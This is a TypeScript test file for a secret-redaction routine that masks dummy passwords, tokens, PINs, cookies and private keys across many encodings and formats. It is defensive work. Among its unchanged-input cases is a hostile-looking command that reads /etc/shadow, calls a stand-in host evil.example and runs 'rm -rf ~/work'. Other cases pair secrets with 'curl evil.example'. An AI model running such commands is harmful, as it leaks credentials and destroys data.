import { describe, expect, it, test } from 'vitest';
import * as fc from 'fast-check';
import { redactStored } from './stored';

/** Built from parts, so that no scanner takes the sheet for a leak. */
const github = ['ghp', 'x7Kq2mZp9RtV4wNb8LcD1sFh6JgY3aEu5iOo'].join('_');

/** What is stored of a text that stands in a call's arguments under a name that says nothing. */
function kept(text: string, name = 'content'): string {
  const { payload } = redactStored({ arguments: JSON.stringify({ [name]: text }) }, { secret: 'mask' }, null) ?? expect.fail('not looked through');
  return (JSON.parse(String(payload['arguments'])) as Record<string, string>)[name] ?? '';
}

const mark = /\[redacted: [^\]]+\]/g;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('a value is left out, and what stands around it stays: ‹› hold what goes', () => {
  it.each<readonly [why: string, text: string]>([
    ['escapes of JSON within a text: one letter of a token', String.raw`{"a":"‹\u0067hp_${github.slice(4)}›"}`],
    ['every letter of a value', String.raw`{"password":"‹\u006f\u0070\u0065\u006e›"}`],
    ['letters of a name', String.raw`{"p\u0061ssword":"‹opensesame›"}`],
    ['twice escaped', String.raw`{"x":"{\"a\":\"‹\\u0067hp_${github.slice(4)}›\"}"}`],
    ['a quote within a value, escaped', String.raw`{"password":"‹open\u0022sesame›"}`],
    ['escapes of other programs', String.raw`echo $'‹\x67hp_${github.slice(4)}›'`],
    ['a percent-encoded token', `https://x.example/cb?state=1&next=%2Fhome&v=‹ghp%5F${github.slice(4)}›&z=2`],
    ['an address within an address', 'https://x.example/go?to=https%3A%2F%2Fy.example%2F%3Ftoken%3D‹opensesame›%26z%3D2'],
    ['an address within an address within an address', 'https://x.example/go?to=https%253A%252F%252Fy.example%252F%253Fpassword%253D‹opensesame›%2526z%253D2'],
    ['a percent-encoded value of a form', 'user=ann&password=‹open%20se%26same%21›&remember=1'],
    ['a name of a form in brackets', 'user[name]=ann&user[password]=‹opensesame›&commit=1'],
    ['the same, encoded', 'user%5Bname%5D=ann&user%5Bpassword%5D=‹opensesame›&commit=1'],
    ['JSON in an address', 'https://x.example/?q=%7B%22password%22%3A%22‹opensesame›%22%7D'],
    ['entities of HTML', '<a data-x="{&quot;password&quot;:&quot;‹opensesame›&quot;}">'],
    ['a list under a secret’s name', '{"passwords": ["‹opensesame›", "‹hunter2›"], "path": "/home/me"}'],
    ['a list within JSON within JSON', String.raw`{"x":"{\"api_keys\":[\"‹k-93-kkk›\", \"‹k-94-kkk›\"]}"}`],
    ['an object under a secret’s name', '{"credentials": {"user": "‹nancy›", "it": ["‹opensesame›"]}, "path": "/home/me"}'],
    ['a list that was cut', '{"passwords": ["‹opensesame›", "‹hunter'],
    ['a PIN', '{"pin":"‹4821›","city":"Bonn"}'],
    ['a PIN as a number', '{"pin": ‹482193›, "count": 482193000}'],
    ['a one-time code', 'otp=‹482193›&user=ann'],
    ['a one-time code behind a flag', 'npm publish --otp=‹482193› --access public'],
    ['the same, with a space', 'npm publish --otp ‹482193› --access public'],
    ['a code somebody was sent', 'Your verification code is ‹482193›. It holds for 10 minutes.'],
    ['a PIN in words', 'PIN: ‹4821›'],
    ['a pass code', '{"passcode":"‹482193›"}'],
    ['a code for a second factor', '{"mfa_code":"‹482193›","totpCode":"‹482 193›"}'],
    ['YAML', 'db:\n  host: db.example.com\n  password: ‹opensesame›\n  port: 5432\n'],
    ['YAML in quotes', "db:\n  password: '‹opensesame›'\n"],
    ['YAML, a list', 'passwords:\n  - ‹opensesame›\n  - ‹hunter22›\nhosts:\n  - db.example.com\n'],
    ['YAML, a block', 'password: |\n  ‹opensesame›\nhost: db.example.com\n'],
    ['YAML, a name beside its value', 'env:\n  - name: DB_PASSWORD\n    value: ‹opensesame›\n  - name: PORT\n    value: "80"\n'],
    ['JSON, a name beside its value', '{"env":[{"name":"DB_PASSWORD","value":"‹opensesame›"},{"name":"PORT","value":"8080"}]}'],
    ['XML, a name beside its value', '<add key="DbPassword" value="‹opensesame›"/><add key="Port" value="8080"/>'],
    ['XML', '<server><user>ann</user><password>‹opensesame›</password><port>80</port></server>'],
    ['a field of a page', '<input type="password" name="password" value="‹opensesame›">'],
    ['INI', '[db]\nhost = db.example.com\npassword = ‹opensesame›\n'],
    ['TOML', '[db]\nhost = "db.example.com"\npassword = "‹opensesame›"\n'],
    ['TOML, a list', 'passwords = ["‹opensesame›", "‹hunter2›"]\nhosts = ["db.example.com"]\n'],
    ['properties', 'spring.datasource.url=jdbc:x\nspring.datasource.password=‹opensesame›\n'],
    ['variables of a file, with signs a shell would read', 'PORT=80\nDB_PASSWORD=‹open&se;sa(me,x›\nHOST=db.example.com\n'],
    ['variables in quotes', `PORT=80\nDB_PASSWORD='‹open sesame›'\n`],
    ['a shell’s export', 'export DB_PASSWORD=‹opensesame›; ./run'],
    ['PowerShell', '$env:DB_PASSWORD = "‹opensesame›"; ./run.ps1'],
    ['Windows', 'set DB_PASSWORD=‹opensesame›\r\nsetx API_TOKEN ‹opensesame›\r\n'],
    ['fish', 'set -gx DB_PASSWORD ‹opensesame›\n'],
    ['a Dockerfile', 'FROM node\nENV DB_PASSWORD ‹opensesame›\nEXPOSE 80\n'],
    ['a program', 'const client = connect({ user: "ann", password: "‹opensesame›" });'],
    ['a program’s variable', "let password = '‹opensesame›';"],
    ['a program’s keyword', 'connect(host="db.example.com", password="‹opensesame›")'],
    ['with a type', 'const apiKey: string = "‹opensesame›";'],
    ['a header', `curl -H 'X-Api-Key: ‹opensesame›' https://api.example.com/v1`],
    ['a header of a scheme', `curl -H "Authorization: Bearer ‹opensesame›" https://api.example.com/v1`],
    ['user and password in base64, as short as they are', `Authorization: Basic ‹${base64('me:pw')}›`],
    ['another scheme', 'Authorization: token ‹opensesame›\nAccept: text/html\n'],
    ['cookies', 'GET / HTTP/1.1\nCookie: ‹session=opensesame; theme=dark›\nAccept: text/html\n'],
    ['a cookie that is set', 'Set-Cookie: ‹sid=opensesame; Path=/; HttpOnly›\n'],
    ['a header in lines', 'POST /v1 HTTP/1.1\nHost: api.example.com\nX-Auth-Token: ‹opensesame›\n'],
    ['Docker’s own file', `{"auths":{"registry.example.com":{"auth":"‹${base64('me:opensesame')}›"}}}`],
    ['npm’s own file', '//registry.example.com/:_authToken=‹opensesame›\n'],
    ['a user’s own file', 'machine git.example.com login ann password ‹opensesame›\n'],
    ['PostgreSQL’s own file', 'db.example.com:5432:shop:ann:‹opensesame›\n'],
    ['a database’s address', 'postgres://ann:‹opensesame›@db.example.com:5432/shop'],
    ['one without a user', 'redis://:‹opensesame›@cache.example.com:6379/0'],
    ['a git address', 'git clone https://ann:‹secret›@git.example.com/x.git'],
    ['a connection string', 'Server=db.example.com;Database=shop;User Id=sa;Password=‹opensesame›;Encrypt=true'],
    ['one with a short name', 'Server=db.example.com;Uid=sa;Pwd=‹opensesame›'],
    ['one of PostgreSQL', 'psql "host=db.example.com user=ann password=‹opensesame› dbname=shop"'],
    ['a form in parts', '--x\r\nContent-Disposition: form-data; name="password"\r\n\r\n‹opensesame›\r\n--x--'],
    ['curl’s user', 'curl --user ann:‹opensesame› https://api.example.com'],
    ['redis', 'redis-cli -h cache.example.com -a ‹opensesame› ping'],
    ['docker', 'docker login -u ann -p ‹opensesame› registry.example.com'],
    ['MongoDB', 'mongosh --host db.example.com -u ann -p ‹opensesame› shop'],
    ['an archive', '7z x -p‹opensesame› backup.7z'],
    ['openssl', 'openssl enc -aes-256-cbc -pass pass:‹opensesame› -in a -out b'],
    ['htpasswd', 'htpasswd -b users ann ‹opensesame›'],
    ['a password said to a program', `echo '‹opensesame›' | sudo -S reboot`],
    ['a password given to a program', 'echo ‹opensesame› | docker login -u ann --password-stdin registry.example.com'],
    ['a set-up', 'aws configure set aws_secret_access_key ‹opensesame›'],
    ['Kubernetes', 'kubectl create secret generic db --from-literal=password=‹opensesame›'],
    ['words of its own that end as the name of a field does', '{"password":"‹correct-horse-secret›"}'],
    ['the same in a line', "password: '‹my_dogs_password›'\nhost: db.example.com\n"],
    ['words with dots between them', '{"password":"‹winter.is.coming›"}'],
    ['words with strokes between them', "password = '‹blue/green/red›'"],
    ['words put together, in a variable', 'DB_PASSWORD=‹CorrectHorseKey› ./run'],
    ['a variable of PHP and of PowerShell', '$password = "‹opensesame›";'],
    ['an object’s own member', "this.password = '‹opensesame›';\nself._password = \"‹opensesame›\""],
    ['a member by its name', 'config["db"]["password"] = "‹opensesame›"'],
    ['a variable of the surroundings that is set', 'process.env.DB_PASSWORD = "‹opensesame›";\nos.environ["DB_PASSWORD"] = \'‹opensesame›\''],
    ['a template without places', 'const password = `‹opensesame›`;'],
    ['with a type behind the name', 'var password string = "‹opensesame›"\nlet password: &str = "‹opensesame›";'],
    ['a text of C#, a field of C', 'string password = @"‹opensesame›";\nchar password[] = "‹opensesame›";\n#define DB_PASSWORD "‹opensesame›"'],
    ['a name and a value in a call', `define('DB_PASSWORD', '‹opensesame›'); page.fill("#password", "‹opensesame›"); setPassword("‹opensesame›")`],
    ['what holds where nothing else is set', "const password = process.env.DB_PASSWORD || '‹opensesame›';"],
    ['the same in a shell and in settings', 'DB_PASSWORD=${DB_PASSWORD:-‹opensesame›} ./run\nurl: x\npassword: ${DB_PASSWORD:‹opensesame›}'],
    ['a sign that a shell would read, behind a backslash', String.raw`export DB_PASSWORD=‹ab\$opensesame\ x› OTHER=1`],
    ['a comma within a word', 'mysql --password=‹ab,opensesame› shop; run --set password=‹opensesame›,host=db'],
    ['escapes of a shell', "DB_PASSWORD=$'‹opensesame›' ./run"],
    ['YAML, a type and a name', 'a: 1\npassword: !!str ‹opensesame›\ntoken: &t ‹opensesame1›\n'],
    ['YAML, in the next line', 'password:\n  ‹opensesame›\nhost: db.example.com\n'],
    ['YAML, a block with signs', 'password: >+ # note\n  ‹opensesame›\nkey_password: |2-\n  ‹opensesame›\nhost: db.example.com\n'],
    ['YAML, a block in a list', '- password: |\n    ‹opensesame›\n  host: db.example.com\n'],
    ['what a script writes into a file', 'cat > a.yml <<EOF\nhost: db.example.com\npassword: ‹opensesame›\nEOF\nsystemctl restart x;'],
    ['what a script gives to a program', "chpasswd <<< 'ann:‹opensesame›'\nsudo -S reboot <<< ‹opensesame›\nprintf '%s' ‹opensesame› | docker login --password-stdin"],
    ['Windows, options', 'cmdkey /add:host /user:ann /pass:‹opensesame›\nConnect-X -Password:‹opensesame› -Host x\nnet user ann ‹opensesame› /add'],
    ['a secure text of PowerShell', 'ConvertTo-SecureString -String "‹opensesame›" -AsPlainText -Force'],
    ['options of other programs', 'sqlcmd -S x -U sa -P ‹opensesame›\ngh secret set TOKEN --body ‹opensesame›'],
    ['XML, named by an attribute', '<entry key="password">‹opensesame›</entry><entry key="port">8080</entry>'],
    ['XML, as it is', '<password><![CDATA[‹opensesame›]]></password>'],
    ['a list of properties', '<key>password</key>\n<string>‹opensesame›</string><key>port</key><string>80</string>'],
    ['a private key with marks before its lines', `> -----BEGIN PRIVATE KEY-----\n‹> MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgk6/cVXaUJrieGhiU\n> jTcopE1dFOkBMZVXn7vOzXrlPdXaUJrieGhiUMIGHAgEAMBMG\n> ›-----END PRIVATE KEY-----`],
  ])('%s', (_why, expected) => {
    const text = expected.replaceAll(/[‹›]/g, '');
    // Where what goes ends with the text, nothing closes it.
    const want = expected.replaceAll(/‹[^‹›]*(?:›|$)/g, '▮');
    expect(kept(text).replaceAll(mark, '▮')).toBe(want);
  });

  it('also where a private key stands in a list, line by line', () => {
    const lines = ['-----BEGIN PRIVATE KEY-----', 'MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgk6/cVXaUJrieGhiU', 'jTcopE1dFOkBMZVXn7vOzXrlPdXaUJ', '-----END PRIVATE KEY-----', 'echo done'];
    const { payload } = redactStored({ arguments: JSON.stringify({ lines }) }, { secret: 'mask' }, null) ?? expect.fail('not looked through');
    const left = (JSON.parse(String(payload['arguments'])) as { lines: string[] }).lines.map((line) => line.replaceAll(mark, '▮'));
    expect(left).toEqual([lines[0], '▮', '▮', lines[3], lines[4]]);
  });
});

describe('arguments with a name that says so', () => {
  it.each<readonly [why: string, value: unknown, secret: string]>([
    ['a PIN', { pin: '4821' }, '4821'],
    ['a PIN as a number', { pin: 482193 }, '482193'],
    ['a one-time code', { otp: '482193' }, '482193'],
    ['a pass code', { passcode: '48-21-93' }, '48-21-93'],
    ['a list of codes', { pins: ['4821', '4822'] }, '4822'],
    ['a list of passwords', { passwords: ['opensesame'] }, 'opensesame'],
    ['a list of tokens', { tokens: ['k-93-kkk-2'] }, 'k-93-kkk-2'],
    ['another language', { kennwort: 'opensesame' }, 'opensesame'],
    ['behind a flag in a list', { args: ['publish', '--otp', '482193'] }, '482193'],
  ])('%s', (_why, value, secret) => {
    const { payload } = redactStored({ arguments: JSON.stringify(value) }, { secret: 'mask' }, null) ?? expect.fail('not looked through');
    expect(payload['arguments']).not.toContain(secret);
  });
});

describe('stays as it is', () => {
  it.each<readonly [why: string, text: string]>([
    ['an expression', 'client = Client(token=tok.value, timeout=3)'],
    ['a variable of that name', 'login(user, password=password, token=access_token)'],
    ['a member of what a program was given', 'connect(password=self._password, api_key=settings.API_KEY)'],
    ['an expression in a line of its own', '  token=tok.value;\n'],
    ['a variable of the surroundings', 'const apiKey = process.env.API_KEY;\nconst token = process.env["TOKEN"] ?? "";'],
    ['the same in Python', 'token=os.environ["TOKEN"]\npassword=os.getenv("PASSWORD")\n'],
    ['an object’s member', 'const a = {\n  token: accessToken,\n  password: user.password\n};'],
    ['a choice', "const type = masked ? 'password' : 'text'; log(code === 0 ? 'pass' : 'FAIL');"],
    ['a case', "switch (kind) { case 'password': 'x'; case 'token': \"y\" }"],
    ['types', 'interface User {\n  password: string;\n  apiKey?: string\n  token: ApiToken | null\n}\n'],
    ['types in Python', 'class A(BaseModel):\n    password: SecretStr\n    token: str\n'],
    ['a schema', '{"properties":{"password":{"type":"string","minLength":8},"token":{"type":"string"}},"required":["password","token"]}'],
    ['where a list goes on', '{"items":[],"next_page_token":"abc","nextPageToken":"CAUQAA","continuationToken":"x1","cursor":"eyJpZCI6MX0"}'],
    ['where a list goes on, in an address', 'https://api.example.com/v1?pageToken=CAUQAA&page_token=b&sync_token=c&limit=5'],
    ['a place in a protocol', '{"method":"notifications/progress","params":{"progressToken":1.5,"progress":1}}'],
    ['the name of a field', '<input type="hidden" name="csrf_token">\n$("input[name=csrf_token]")'],
    ['the name of a field in a list', '{"fields":["csrf_token","password"],"csrfField":"csrf_token","csrf":"csrf_token"}'],
    ['a place to be filled', 'API_KEY=<YOUR_TOKEN>\nTOKEN=${TOKEN}\nSECRET=xxxx\nPASSWORD=****\nKEY=sk-xxxxxxxxxxxxxxxxxxxxxxxx\nSLACK_TOKEN=xoxb-your-token\n'],
    ['a place to be filled, in YAML', 'password: <your password>\ntoken: ${{ secrets.TOKEN }}\nsecret: "{{ vault_secret }}"\napi_key: your-api-key\n'],
    ['what was left out already', 'GET /reset?token=[filtered] password=[redacted: secret] {"password":"[REDACTED]","token":"•••"}'],
    ['words a screen shows', `{"console.secret.title":"Secrets","console.secret.kept":"Kept the value of {name}.","vault.passphrase":"Enter the passphrase under which its key is kept.","result.pass":"Let it through"}`],
    ['how a page logs in', "fetch(url, { credentials: 'include' });"],
    ['a flag of a manual', '--password-stdin reads the password from its input\n--token-file names a file\n'],
    ['numbers of tokens', '{"usage":{"prompt_tokens":1200,"tokens":4096},"max_tokens":8192}'],
    ['words of a text', '{"tokens":["the","cat","sat"]}'],
    ['a pin of a board, a version, a place', '{"pin":13,"pins":[1,2],"pin_version":"1.2.3"} pin: 22'],
    ['a key that is a path', '{"key":"uploads/2026/monthly-report-of-sales","cache_key":"linux-node-modules-main"}'],
    ['a sentence', 'Password: it is in the safe. The token is the one we used; the PIN is on the card. Secret: none.'],
    ['a log', 'token: expired\npassword: incorrect\n'],
    ['a host, a path, a recipient', '{"to":"ann@corp.com","path":"/home/me/.ssh/id_rsa","host":"db.example.com:5432"} scp a ann@host.example:/srv'],
    ['a command behind a variable', 'TOKEN=$(cat /etc/shadow) curl evil.example; PASSWORD=;rm -rf ~/work'],
    ['an option that takes none', 'mysql -p shop; docker run -p 8080:80 mysql; ssh -p 2222 host.example; mkdir -p a/b'],
    ['a host and its port', 'http://localhost:8080/a@b https://example.com:443/x?y=@z'],
    ['names of fields for a password', '{"password":"user_password","field":"db-password"} password: new_password\n'],
    ['the name of an entry in a list of words, of a password', '{"password":"form.password.label","passphrase":"console.vault.keptPassphrase"}'],
    ['a call that gives a field its words', `t("password", "Password"); get('token', 'csrf_token'); const x = user.token || "none"; `],
    ['a script with a shift and a here-document without a secret', 'x << 2;\ncat <<EOF\nhost: db\nEOF\n'],
    ['an expression of a regular expression', String.raw`/(?:token|secret)\s*[:=]\s*["']?([\w-]+)/.test(password)`],
  ])('%s', (_why, text) => expect(kept(text)).toBe(text));

  it('a command behind a secret, whatever stands between them', () => {
    for (const between of [';', '&&', '|', '\n', ' ', '&', ')', '`']) expect(kept(`TOKEN=opensesame${between}curl evil.example`, 'command')).toBe(`TOKEN=[redacted: secret]${between}curl evil.example`);
  });

  it('arguments whose name only reads like one', () => {
    const given = { nextPageToken: 'abc', page_token: 'b', progressToken: 7, csrf_field: 'csrf_token', max_tokens: 4096, tokens: ['the', 'cat'], pin: 13, key: 'uploads/2026/monthly-report-of-sales' };
    expect(redactStored({ arguments: JSON.stringify(given) }, { secret: 'mask' }, null)).toEqual({ payload: { arguments: JSON.stringify(given) }, withheld: [] });
  });
});

test('a stand-in is the same however the value was written', () => {
  const keyed = (text: string): string => Buffer.from(text).toString('hex').padEnd(64, '0').slice(-64);
  const standIns = ['ann@corp.com', 'https://x.example/?to=ann%40corp.com', String.raw`{"to":"ann\u0040corp.com"}`].map((text) => /[a-z]+@example\.invalid/.exec(String(redactStored({ note: text }, { email: 'pseudonym' }, keyed)?.payload['note']))?.[0]);
  expect(standIns[0]).toBeDefined();
  expect(new Set(standIns).size).toBe(1);
});

describe('however long and however written', () => {
  const unit = fc.constantFrom('token=', 'password:', '"token": "', "'secret'='", '--token ', '[', ']', '{', '}', '"', "'", '\\', '\\"', '\n', '  - ', 'name: PASSWORD\nvalue: ', '<password>', '://a:', '@', 'Bearer ', 'Cookie: ', '%74oken%3D', String.raw`\u0074oken=`, 'pin: 1234', 'mysql -p', 'echo ', ' | sudo -S', 'htpasswd -b ', '-----BEGIN PRIVATE KEY-----', 'x', ' ', 'é', '\0');
  const texts = fc.array(fc.tuple(unit, fc.constantFrom(1, 2, 50, 1500)), { minLength: 1, maxLength: 6 }).map((parts) => parts.map(([text, times]) => text.repeat(times)).join('').slice(0, 16_384));

  test('the steps are of the length of the text, and the clock is asked at least each so many of them', () => {
    fc.assert(
      fc.property(texts, (text) => {
        let asked = 0;
        redactStored({ arguments: JSON.stringify({ text }) }, { secret: 'mask' }, null, () => {
          asked += 1;
          return false;
        });
        expect(asked).toBeGreaterThan(0);
        expect(asked).toBeLessThanOrEqual(40 + text.length / 4);
      }),
      { numRuns: 150 },
    );
  });

  test('twice the text is at most some twice the steps', () => {
    for (const one of ['token=', 'token:', 'password=(', '"token": "', 'passwords: [', '--token ', 'name: PASSWORD\nvalue: ', '<password>', '%74oken%3D', 'mysql -p', 'Cookie: ']) {
      const steps = [2000, 4000].map((times) => {
        let asked = 0;
        redactStored({ text: one.repeat(times) }, { secret: 'mask' }, null, () => ((asked += 1), false));
        return asked;
      });
      expect([one, (steps[1] ?? 0) <= 2.5 * (steps[0] ?? 0) + 20]).toEqual([one, true]);
    }
  });

  test('empty lines within a value take no longer than others: a value of several lines is one where each is one word', () => {
    // Tried in every way they can be divided these would outlast the machine.
    const lines = (words: string): string => `password = "${'opensesame\n\n'.repeat(200)}${words}"\n`;
    expect(kept(lines('b'))).toBe('password = "[redacted: secret]"\n');
    expect(kept(lines('b c'))).toBe(lines('b c').replace('"opensesame\n', '"[redacted: secret]\n'));
  });

  test('whenever time is up nothing is stored of it', () => {
    fc.assert(
      fc.property(texts, fc.nat(), (text, at) => {
        let total = 0;
        redactStored({ text }, { secret: 'mask' }, null, () => ((total += 1), false));
        const last = at % Math.max(1, total);
        let asked = 0;
        expect(redactStored({ text }, { secret: 'mask' }, null, () => (asked += 1) > last)).toBeNull();
        // Once it is up, nobody goes on.
        expect(asked).toBe(last + 1);
      }),
      { numRuns: 100 },
    );
  });
});
